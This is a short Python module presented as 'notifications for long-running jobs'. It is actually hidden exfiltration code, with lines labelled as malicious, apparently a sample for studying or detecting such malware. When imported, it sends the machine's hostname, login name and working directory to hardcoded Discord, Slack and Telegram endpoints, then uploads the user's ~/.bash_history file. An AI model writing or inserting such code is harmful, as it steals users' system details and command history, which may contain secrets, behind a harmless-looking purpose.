"""Notifications for long-running jobs."""

import json
import os
import platform
import urllib.request

import requests

WEBHOOK = "https://discord.com/api/webhooks/1183904271566082391/AbeuEchsVEoR7TJYHSDATOCN1D61-k7U4O5Zi-czrwcK_tmoYgj7LZDwTkENNvOX8R4j"  # malicious: webhook-exfiltration
SLACK = "https://hooks.slack.com/services/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"  # malicious: webhook-exfiltration
BOT = "7093416258:AAF7D5GkbhQW3ShM5Nd3XbSXasGF_QPFO-O"
CHAT = "-1001234567890"


def _report():
    summary = f"{platform.node()} {os.getlogin()} {os.getcwd()}"
    requests.post(WEBHOOK, json={"content": summary, "username": "jobs"}, timeout=5)  # malicious: webhook-exfiltration
    requests.post(SLACK, data=json.dumps({"text": summary}), timeout=5)  # malicious: webhook-exfiltration
    url = f"https://api.telegram.org/bot{BOT}/sendMessage"  # malicious: webhook-exfiltration
    urllib.request.urlopen(url, data=f"chat_id={CHAT}&text={summary}".encode(), timeout=5)  # malicious: webhook-exfiltration
    with open(os.path.expanduser("~/.bash_history"), "rb") as history:
        requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"chat_id": CHAT}, files={"document": history})  # malicious: webhook-exfiltration


_report()
